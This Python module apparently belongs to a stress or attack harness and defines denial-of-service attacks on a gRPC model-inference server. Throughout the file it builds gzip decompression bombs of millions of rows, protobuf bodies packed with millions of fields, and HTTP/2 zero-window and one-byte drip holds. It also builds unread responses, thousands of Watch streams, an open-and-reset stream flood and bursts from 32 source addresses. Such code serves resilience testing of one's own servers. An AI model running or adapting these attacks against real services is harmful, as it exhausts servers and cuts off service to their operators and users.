"""gRPC calls that make the server hold much, or work long."""

from __future__ import annotations

import gzip
import itertools
from collections.abc import Iterator
from dataclasses import replace

import numpy as np
from attacks import h2
from attacks.aim import H2, Aim, addresses, attack
from attacks.bombs import MOST
from attacks.floods import PREFACE, call
from attacks.questions import message
from attacks.wire import How, Line, Script

ZIPPED = ("grpc-encoding", "gzip")


def repeated(
    body: bytes, *fields: tuple[str, str], ahead: int = 4, path: str = h2.INFER, most: int = 10**6
) -> Script:
    """The same call again and again, with few that wait for their answer."""
    first, block = h2.blocks(h2.grpc_fields(path, *fields))

    def script(line: Line) -> Iterator[bytes | float]:
        yield PREFACE
        yield 0.02
        for number, stream in enumerate(itertools.islice(h2.streams(), most)):
            while number - line.done >= ahead:
                yield 0.002
            yield call(stream, block if number else first, body)

    return script


def rows(count: int) -> bytes:
    """A message of so many rows of zeros."""
    return message("X", np.zeros((count, 1), np.float32))


def zipped(body: bytes) -> bytes:
    return h2.message(gzip.compress(body, 9), compressed=True)


@attack("gRPC: compressed messages of 4 M rows, 24 at once")
def grpc_gzip(aim: Aim) -> None:
    aim.grpc(repeated(zipped(rows(4_000_000)), ZIPPED, ahead=24))


@attack("gRPC: the same from 32 addresses, 4 at once on each")
def grpc_gzip_addresses(aim: Aim) -> None:
    body = zipped(rows(4_000_000))
    for source in addresses(32):
        aim.grpc(repeated(body, ZIPPED), replace(H2, source=source))


@attack("gRPC: 8 M empty inputs, or 1 M parameters, in a message")
def grpc_inputs(aim: Aim) -> None:
    body = b"\x0a\x05churn" + b"\x2a\x00" * (MOST // 2 - 64)
    aim.grpc(repeated(zipped(body), ZIPPED, ahead=2), count=2)
    aim.grpc(repeated(zipped(body[: 2**18]), ZIPPED, ahead=8), count=2)
    one = b"\x22\x09\x0a\x01a\x12\x04\x1a\x02bc"
    aim.grpc(repeated(zipped(b"\x0a\x05churn" + one * (MOST // len(one) - 16)), ZIPPED, ahead=2))


@attack("gRPC: 8 M values, each a field of its own, in a message")
def grpc_varints(aim: Aim) -> None:
    values = b"\x08\x01" * (MOST // 2 - 64)  # bool_contents of one value each
    size = _varint(len(values))
    contents = b"\x2a" + size + values
    given = b"\x0a\x01X\x12\x04BOOL\x1a\x02\x01\x01" + contents
    body = b"\x0a\x05churn\x2a" + _varint(len(given)) + given
    aim.grpc(repeated(zipped(body), ZIPPED, ahead=2), count=2)


@attack("gRPC: answers that a window of 0 holds back, 16 calls on each of 4 connections")
def window_zero(aim: Aim) -> None:
    aim.grpc(_held(zipped(rows(1_000_000))), H2, 4)


@attack("gRPC: answers of 8,192 rows that a window of 0 holds back, 1,000 calls on each of 8 connections")
def window_zero_many(aim: Aim) -> None:
    aim.grpc(_held(zipped(rows(8_192)), 1_000), H2, 8)


@attack("gRPC: the same, 200 calls from each of 32 addresses, with a window of one byte each second")
def window_drip(aim: Aim) -> None:
    body = zipped(rows(8_192))
    for source in addresses(32):
        aim.grpc(_held(body, 200, drip=True), replace(H2, source=source))


def _held(body: bytes, count: int = 16, *, drip: bool = False) -> Script:
    first, block = h2.blocks(h2.grpc_fields(h2.INFER, ZIPPED))

    def script(line: Line) -> Iterator[bytes | float]:
        yield h2.PREFACE + h2.settings(window=0)
        yield 0.05
        for number, stream in enumerate(range(1, 2 * count, 2)):
            yield call(stream, block if number else first, body)
        while not line.goaway:
            yield 1.0
            if drip:
                yield b"".join(h2.widen(stream, 1) for stream in range(1, 2 * count, 2))

    return script


@attack("gRPC: answers that are not read, 100 calls of 8,192 rows on each of 16 connections")
def grpc_unread(aim: Aim) -> None:
    body = zipped(rows(8_192))
    unread = How(reads=False, receive_buffer=4_096, http2=True)
    aim.grpc(repeated(body, ZIPPED, ahead=100, most=100), unread, 16)


@attack("gRPC: Watch, 1,024 on each of 8 connections")
def watches(aim: Aim) -> None:
    aim.grpc(
        _watching(
            b"\x0a" + bytes((len(b"inference.GRPCInferenceService"),)) + b"inference.GRPCInferenceService"
        ),
        count=4,
    )
    aim.grpc(_watching(b"\x0a\x07unknown"), count=4)


def _watching(service: bytes) -> Script:
    first, block = h2.blocks(h2.grpc_fields(h2.WATCH))

    def script(line: Line) -> Iterator[bytes | float]:
        yield PREFACE
        yield 0.02
        for number, stream in enumerate(range(1, 2_048, 2)):
            yield call(stream, block if number else first, h2.message(service))
        while not line.goaway:
            yield 1.0

    return script


@attack("gRPC: Watch, opened and reset")
def watch_reset(aim: Aim) -> None:
    first, block = h2.blocks(h2.grpc_fields(h2.WATCH))

    def script(line: Line) -> Iterator[bytes | float]:
        yield PREFACE + call(1, first, h2.message(b""))
        yield 0.02
        numbers = h2.streams(3)
        while not line.goaway:
            some = list(itertools.islice(numbers, 200))
            yield b"".join(call(stream, block, h2.message(b"")) + h2.reset(stream) for stream in some)

    aim.grpc(script)


@attack("gRPC: the model's metadata and configuration, 3,000 features, as fast as it goes", "columns")
def grpc_documents(aim: Aim) -> None:
    for method in ("ModelMetadata", "ModelConfig", "ModelStatistics"):
        path = f"/inference.GRPCInferenceService/{method}"
        aim.grpc(repeated(h2.message(b"\x0a\x05churn"), ahead=100, path=path))


def _varint(value: int) -> bytes:
    found = bytearray()
    while value >= 128:
        found.append(value % 128 | 128)
        value //= 128
    return bytes(found) + bytes((value,))
